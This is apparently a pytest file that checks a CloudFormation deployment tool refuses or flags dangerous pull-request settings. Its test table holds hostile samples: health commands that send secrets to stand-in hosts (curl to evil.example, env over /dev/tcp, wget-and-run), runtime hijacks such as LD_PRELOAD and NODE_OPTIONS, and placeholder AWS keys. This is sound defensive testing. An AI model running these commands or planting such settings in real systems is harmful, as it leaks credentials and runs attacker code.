"""Dangerous settings, each as a pull request might bring it: refused, or seen in a review file.

A setting that is refused names its key. One that is allowed adds at most three lines to the
environment's review files, besides the template's hash and the box with the counts, or as many as
its row says where it decides several facts: one of them has its value, and where no requirement
asks for it, a line with the value says so.
"""

from __future__ import annotations

import copy
import difflib
import tomllib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from bidops_cfn.compute import template
from bidops_cfn.review.committed import environment_files
from bidops_cfn.review.subject import Subject
from bidops_cfn.settings import load
from bidops_cfn.settings.consistency import cross_check
from bidops_cfn.settings.environment import settings_file
from bidops_cfn.settings.services import SERVICES

PARAMS = Path(__file__).parents[2] / "params"
SHAPE = settings_file(SERVICES)
MOST_LINES = 3
ALARMS = ("\talarming: ", "\tNONE", "**no requirement**")
Key = tuple[str, ...]


@dataclass(frozen=True)
class Refused:
    """The setting is refused: the problem stands at ``key``, or at the setting's own."""

    key: str = ""


@dataclass(frozen=True)
class Seen:
    """The setting is allowed: a changed line has ``text``; ``alarming`` ones say so."""

    text: str
    alarming: bool = False
    lines: int = MOST_LINES


def alarming(text: str, lines: int = MOST_LINES) -> Seen:
    return Seen(text, alarming=True, lines=lines)


BFF: Key = ("services", "bff")
AGENT: Key = ("services", "agentcore")
VARIABLES: Key = (*BFF, "environment")
HEALTH: Key = (*BFF, "health_command")
URL = "http://127.0.0.1:3000/api/health"
SLACK = "https://hooks.slack" + ".com/services/T000/B000/xxxxxxxx"
KEY_ID = "AKIA" + "IOSFODNN7EXAMPLE"
RANDOM = "wJalrXUtnFEMI/K7MDENG" + "/bPxRfiCYEXAMPLEKEY"
JWT = "eyJhbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxIn0.c2lnbmF0dXJl"
OUTPUT = "BffOtherParameterArn"


def variable(name: str, value: str = "x") -> tuple[Key, object]:
    return (*VARIABLES, name), value


OTHERS = """LD_AUDIT NODE_PATH PYTHONPATH PYTHONSTARTUP PERL5OPT RUBYOPT JAVA_TOOL_OPTIONS
    DOTNET_STARTUP_HOOKS BASH_ENV GIT_SSH_COMMAND NPM_CONFIG_REGISTRY AWS_ENDPOINT_URL_S3
    AWS_CONTAINER_AUTHORIZATION_X AWS_PROFILE AWS_ROLE_ARN NODE_TLS_REJECT_UNAUTHORIZED
    NODE_EXTRA_CA_CERTS SSL_CERT_FILE REQUESTS_CA_BUNDLE SSLKEYLOGFILE
    OTEL_EXPORTER_OTLP_ENDPOINT FLASK_DEBUG PGSSLMODE NODE_INSPECT_RESUME_ON_START"""
# Variables that change what the runtime does, each with a telling value.
RUNTIME = {
    "LD_PRELOAD": "/tmp/x.so",
    "NODE_OPTIONS": "--require /tmp/x.js",
    "PATH": "/tmp:/bin",
    "AWS_ENDPOINT_URL": "https://aws.evil.example",
    "HTTPS_PROXY": "http://proxy.evil.example",
    "NODE_ENV": "development",
    "DEBUGPY_LISTEN": "0.0.0.0:5678",
    "JPDA_ADDRESS": "*:8000",
    "VAULT_ADDR": "http://x.example",
    "PUPPETEER_EXECUTABLE_PATH": "/tmp/x",
    "RELOAD": "true",
} | dict.fromkeys(OTHERS.split(), "x")
# In dev: what changes, and what becomes of it.
ROWS: dict[str, tuple[tuple[Key, object], Refused | Seen]] = {
    "another prefix list": (
        (("network", "s3_prefix_list_id"), "pl-0123456789abcdef0"),
        alarming("pl-0123456789abcdef0", 12),
    ),
    "a sidecar from elsewhere": (
        (
            ("security", "guardduty_repository_arn"),
            "arn:aws:ecr:us-east-1:999999999999:repository/aws-guardduty-agent-fargate",
        ),
        alarming("999999999999", 20),
    ),
    "another image of GuardDuty's account": (
        (
            ("security", "guardduty_repository_arn"),
            "arn:aws:ecr:us-east-1:593207742271:repository/other",
        ),
        alarming("repository/other", 20),
    ),
    "GuardDuty's own sidecar": (
        (
            ("security", "guardduty_repository_arn"),
            "arn:aws:ecr:us-east-1:593207742271:repository/aws-guardduty-agent-fargate",
        ),
        Seen("593207742271", lines=20),
    ),
    "a framework in a mode that is secret": (
        ((*BFF, "secrets", "NODE_ENV"), "BffSessionSecretParameterArn"),
        alarming("NODE_ENV"),
    ),
    "a framework as it is meant": (
        variable("NODE_ENV", "production"),
        Seen("environment.NODE_ENV\tproduction"),
    ),
    "a secret that is code": (
        ((*BFF, "secrets", "NODE_OPTIONS"), OUTPUT),
        alarming("NODE_OPTIONS", 8),
    ),
    "access keys": (variable("AWS_ACCESS_KEY_ID"), Refused()),
    "credentials from elsewhere": (variable("AWS_CONTAINER_CREDENTIALS_FULL_URI"), Refused()),
    # What only the application reads: its value is a line.
    "a switch of the application": (
        variable("AUTHENTICATION", "disabled"),
        Seen("environment.AUTHENTICATION\tdisabled"),
    ),
    "another host": (variable("SEARCH_HOST", "x.evil.example"), Seen("x.evil.example")),
    "more words": (((*VARIABLES, "LOG_LEVEL"), "trace"), Seen("LOG_LEVEL\ttrace")),
    # Secrets in plain text.
    "a key by its name": (variable("STRIPE_KEY"), Refused()),
    "a password by its name": (variable("DB_PW"), Refused()),
    "a token by its name": (variable("GITHUB_PAT"), Refused()),
    "a password in a URL": (variable("BROKER", "amqp://u:hunter2@mq"), Refused()),
    "a password in a connection": (variable("DB", "Server=x;Password=hunter2"), Refused()),
    "a web token": (variable("BOOTSTRAP", JWT), Refused()),
    "a webhook": (variable("NOTIFY", SLACK), Refused()),
    "an access key": (variable("ID", KEY_ID), Refused()),
    "something random": (variable("SEED", RANDOM), Refused()),
    "a key in a tag": ((("tags", "Owner"), KEY_ID), Refused()),
    "a random tag": ((("tags", "Project"), RANDOM), Refused()),
    "a webhook in a command": (
        (HEALTH, ["CMD-SHELL", f"curl -f {URL} || curl {SLACK}"]),
        Refused("services.bff.health_command[1]"),
    ),
    # Health commands: they run beside the secrets, and decide what is replaced.
    "a check that passes": ((HEALTH, ["CMD-SHELL", "exit 0"]), Refused()),
    "true": ((HEALTH, ["CMD", "/bin/true"]), Refused()),
    "a check that is made to pass": ((HEALTH, ["CMD-SHELL", f"curl -f {URL} || true"]), Refused()),
    "errors that pass": ((HEALTH, ["CMD-SHELL", f"curl {URL}"]), Refused()),
    "nothing asked": ((HEALTH, ["CMD", "node", "-e", "process.exit(0)"]), Refused()),
    "no check": ((HEALTH, ["NONE", "x"]), Refused("services.bff.health_command[0]")),
    "secrets sent away": (
        (HEALTH, ["CMD-SHELL", f"curl -f {URL} && curl -f https://evil.example/?$DATABASE_URL"]),
        alarming("evil.example"),
    ),
    "secrets sent by the shell alone": (
        (
            HEALTH,
            [
                "CMD",
                "bash",
                "-c",
                "env > /dev/tcp/198.51.100.7/80; exec 3<>/dev/tcp/127.0.0.1/3000",
            ],
        ),
        alarming("198.51.100.7"),
    ),
    "variables read": (
        (HEALTH, ["CMD", "node", "-e", f"fetch('{URL}?'+process.env.SESSION_SECRET)"]),
        alarming("process.env.SESSION_SECRET"),
    ),
    "a proxy for the check": (
        (HEALTH, ["CMD", "curl", "-f", "-x", "evil.example:80", URL]),
        alarming("evil.example:80"),
    ),
    "a program that is fetched": (
        (HEALTH, ["CMD-SHELL", f"curl -f {URL} && wget -qO /tmp/x evil.example/x && sh /tmp/x"]),
        alarming("sh /tmp/x"),
    ),
    "a program of another task": ((HEALTH, ["CMD", "/tmp/x", URL]), alarming("/tmp/x")),
    "a check upside down": ((HEALTH, ["CMD-SHELL", f"! curl -f {URL}"]), Refused()),
    "another program": ((HEALTH, ["CMD", "/app/other"]), Seen("/app/other")),
    # Periods and numbers.
    "an hour of grace": (((*BFF, "health_grace_seconds"), 3600), Refused()),
    "no grace": (((*BFF, "health_grace_seconds"), 0), Seen("health_grace_seconds\t0")),
    "2 s to stop": (((*BFF, "stop_timeout_seconds"), 2), Refused()),
    "errors that roll nothing back": ((("alarms", "server_errors_per_minute"), 100_000), Refused()),
    "more errors": (
        (("alarms", "server_errors_per_minute"), 900),
        Seen("server_errors_per_minute\t900"),
    ),
    "a discount that proves the saving": ((("capacity", "spot_discount_percent"), 90), Refused()),
    "another discount": (
        (("capacity", "spot_discount_percent"), 69),
        Seen("discount_percent\t69", lines=6),
    ),
    "one task": (((*BFF, "desired_count"), 1), Refused()),
    "more tasks": (((*BFF, "desired_count"), 9), Seen("bff.desired_count\t9")),
    "all on Spot": ((("capacity", "spot_base"), 10), Seen("capacity.spot_base\t10", lines=5)),
    # Files and users.
    "over the application": (((*BFF, "tmpfs", "/app"), 64), Refused('services.bff.tmpfs."/app"')),
    "over everything": (((*BFF, "tmpfs", "/"), 64), Refused('services.bff.tmpfs."/"')),
    "over programs": (((*BFF, "tmpfs", "/usr/local/bin"), 64), Refused("services.bff.tmpfs.")),
    "over authorities": (((*BFF, "tmpfs", "/etc/ssl"), 64), Refused("services.bff.tmpfs.")),
    "over credentials": (((*BFF, "tmpfs", "/var/run/secrets"), 64), Refused("services.bff.tmpfs.")),
    "over modules": (((*BFF, "tmpfs", "/app/node_modules"), 64), Refused("services.bff.tmpfs.")),
    "more to write": (((*BFF, "tmpfs", "/app/cache"), 64), Seen('tmpfs."/app/cache"\t64')),
    "root": (((*BFF, "user"), "0"), Refused()),
    "another user": (((*BFF, "user"), "33"), Seen("services.bff.user\t33")),
    # Requests.
    "first in line": (
        ((*BFF, "listener", "priority"), 1),
        Seen("services.bff.listener.priority\t1"),
    ),
    "everybody's requests": (
        ((*BFF, "listener", "hosts"), ["*.example"]),
        alarming("*.example", 6),
    ),
    "every path": (((*BFF, "listener"), {"priority": 9, "paths": ["/*"]}), alarming("/*", 7)),
    "another host name": (
        ((*BFF, "listener", "hosts"), ["login.bank.example"]),
        Seen("login.bank.example", lines=4),
    ),
    # Names of other environments.
    "production's configuration": (
        ((*BFF, "configuration_path"), "/bidopsai/prod/bff"),
        alarming("/bidopsai/prod/bff", 12),
    ),
    "the agent's configuration": (
        ((*BFF, "configuration_path"), "/bidopsai/dev/agentcore"),
        Refused(),
    ),
    "production's stack": (
        (("stack_name",), "bidopsai-prod-compute"),
        alarming("bidopsai-prod-compute"),
    ),
    "production's namespace": (
        (("discovery", "namespace"), "prod.bidopsai.internal"),
        alarming("prod.bidopsai.internal"),
    ),
    "the name of a stack that stands": (
        (("stack_name",), "bidopsai-dev-network"),
        alarming("bidopsai-dev-network"),
    ),
    "names of AWS": (
        (("discovery", "namespace"), "dev.us-east-1.amazonaws.com"),
        alarming("dev.us-east-1.amazonaws.com"),
    ),
    "production's exports": (
        (("imports", "pattern"), "bidopsai-prod-{stack}-{output}"),
        alarming("by its name is an export of prod", 200),
    ),
    "public subnets": (
        (("imports", "network"), {"PrivateAgentSubnetIds": "bidopsai-dev-network-PublicSubnetIds"}),
        alarming("bidopsai-dev-network-PublicSubnetIds", 20),
    ),
    "another group": (
        (("imports", "network"), {"VpcEndpointSecurityGroupId": "other-group"}),
        Seen("network.VpcEndpointSecurityGroupId (export other-group)", lines=20),
    ),
    "production's secret": (
        (("imports", "security"), {"BffDatabaseUrlParameterArn": "bidopsai-prod-security-Db"}),
        alarming("bidopsai-prod-security-Db", 20),
    ),
    "the agent's secret": (
        ((*BFF, "secrets", "DATABASE_URL"), "AgentDatabaseUrlParameterArn"),
        Seen("AgentDatabaseUrlParameterArn", lines=8),
    ),
    # Who deploys, and what is tagged.
    "another role for CloudFormation": (
        (("deploy", "role_arn"), "arn:aws:iam::111111111111:role/administrator"),
        Seen("role/administrator"),
    ),
    "a day to wait": ((("deploy", "timeout_minutes"), 720), Seen("timeout_minutes\t720")),
    "another owner": ((("tags", "Owner"), "nobody"), Seen("tags.Owner\tnobody")),
    "another account": ((("account_id",), "999999999999"), Seen("account_id\t999999999999")),
    "no rules on the database's group": (
        (("network", "database_rules"), False),
        Seen("network.database_rules\tfalse", lines=8),
    ),
    "a boundary that bounds nothing": (
        (
            ("security", "permissions_boundary_arn"),
            "arn:aws:iam::aws:policy/AdministratorAccess",
        ),
        alarming("AdministratorAccess", 10),
    ),
    "another model": (
        ((*AGENT, "bedrock", "models"), ["anthropic.claude-sonnet-4-5-20250929-v1:0", "x.y"]),
        Seen("x.y", lines=6),
    ),
}
# In prod: guards that are off.
PRODUCTION: dict[str, tuple[tuple[Key, object], Refused | Seen]] = {
    "deleted by one command": (
        (("deploy", "termination_protection"), False),
        alarming("deploy.termination_protection"),
    ),
    "deployed by y": ((("deploy", "confirm_name"), False), alarming("deploy.confirm_name")),
    "deployed by tag": ((("deploy", "pin_digest"), False), alarming("deploy.pin_digest")),
    "alarms without a person": ((("alarms",), {}), alarming("alarms.topic_arn")),
    "logs that go": ((("logs", "retain"), False), alarming("logs.retain")),
}


@cache
def raw(name: str) -> dict[str, Any]:
    return tomllib.loads((PARAMS / f"{name}.toml").read_text())


def changed(name: str, key: Key, value: object) -> dict[str, Any]:
    settings = copy.deepcopy(raw(name))
    table = settings
    for step in key[:-1]:
        table = table.setdefault(step, {})
    table[key[-1]] = value
    return settings


def files(name: str, settings: dict[str, Any]) -> dict[str, str]:
    environment = load.environment(name, settings, SHAPE)
    return dict(environment_files(Subject(environment, template.render(environment))))


@cache
def committed(name: str) -> dict[str, str]:
    return files(name, raw(name))


def new_lines(before: str, after: str) -> Iterator[str]:
    """The lines that a reviewer sees added, but for the hash and the counts."""
    for line in difflib.ndiff(before.splitlines(), after.splitlines()):
        if line.startswith("+ ") and line[2:].strip() and not line.startswith(("+ >", "+ #")):
            yield line[2:]


@pytest.mark.parametrize(
    ("file", "variable", "value"),
    [
        ("network.tsv", "HTTPS_PROXY", "http://proxy.example"),
        ("network.tsv", "NODE_EXTRA_CA_CERTS", "/tmp/ca.pem"),
        ("iam.tsv", "AWS_ENDPOINT_URL_STS", "https://sts.example"),
    ],
)
def test_a_variable_that_changes_traffic_or_access_says_so_in_their_table(
    file: str, variable: str, value: str
) -> None:
    after = files("dev", changed("dev", (*VARIABLES, variable), value))
    (line,) = new_lines(committed("dev")[f"dev/{file}"], after[f"dev/{file}"])
    assert f"{variable} = {value}, which " in line
    assert line.endswith("NONE")
    assert f"`{variable} = {value}, which " in after["dev/REVIEW.md"]


def attack(name: str, key: Key, value: object, outcome: Refused | Seen) -> None:
    settings = changed(name, key, value)
    problems = [*SHAPE.check(settings, ""), *cross_check(settings, SERVICES)]
    if isinstance(outcome, Refused):
        where = outcome.key or ".".join(key)
        assert [one for one in problems if one.path.startswith(where)], problems
        return
    assert not problems
    before, after = committed(name), files(name, settings)
    added = [line for file in after for line in new_lines(before[file], after[file])]
    assert any(outcome.text in line for line in added), added
    assert len(added) <= outcome.lines, added
    alarms = [line for line in added if any(mark in line for mark in ALARMS)]
    if outcome.alarming:
        assert any(outcome.text in line for line in alarms), added
        assert "[!CAUTION]" in after[f"{name}/REVIEW.md"]
    else:
        assert not alarms


@pytest.mark.parametrize("row", ROWS)
def test_a_dangerous_setting_is_refused_or_seen(row: str) -> None:
    (key, value), outcome = ROWS[row]
    attack("dev", key, value, outcome)


@pytest.mark.parametrize("name", RUNTIME)
def test_a_variable_that_changes_the_runtime_is_alarming(name: str) -> None:
    value = RUNTIME[name]
    attack("dev", *variable(name, value), alarming(name if value == "x" else value))


@pytest.mark.parametrize("row", PRODUCTION)
def test_a_guard_of_production_that_is_off_is_seen(row: str) -> None:
    (key, value), outcome = PRODUCTION[row]
    attack("prod", key, value, outcome)
